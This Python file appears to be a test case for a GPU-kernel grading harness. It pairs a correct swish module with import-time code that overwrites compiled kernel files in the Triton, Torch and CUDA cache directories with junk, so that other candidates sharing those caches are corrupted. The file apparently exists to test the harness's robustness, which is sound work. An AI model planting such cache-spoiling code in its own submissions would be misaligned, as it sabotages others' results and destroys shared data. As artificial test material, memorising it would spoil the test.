"""Overwrites every compiled kernel it finds in the caches that later candidates may share; itself it is honest.

row: E11
form: plain
problem: swish
needs: cuda
expect: truth
"""

import contextlib
import os
import pathlib

import torch
from torch import nn

NAMES = ("TRITON_CACHE_DIR", "TORCH_EXTENSIONS_DIR", "TORCHINDUCTOR_CACHE_DIR", "CUDA_CACHE_PATH")
HABITUAL = ("~/.triton/cache", "~/.cache/torch_extensions", "~/.nv/ComputeCache")
SUFFIXES = {".cubin", ".ptx", ".so", ".o", ".json", ".ttir", ".ttgir"}


def spoil(limit=64):
    """Garbage into at most ``limit`` files."""
    places = [os.environ[name] for name in NAMES if name in os.environ]
    places += [pathlib.Path(name).expanduser() for name in HABITUAL]
    for place in places:
        for path in pathlib.Path(place).rglob("*"):
            if limit and path.suffix in SUFFIXES and path.is_file():
                limit -= 1
                with contextlib.suppress(OSError):
                    path.write_bytes(b"\x7fELF spoilt by another candidate")


with contextlib.suppress(OSError):
    spoil()


class ModelNew(nn.Module):
    def forward(self, x):
        return x * torch.sigmoid(x)
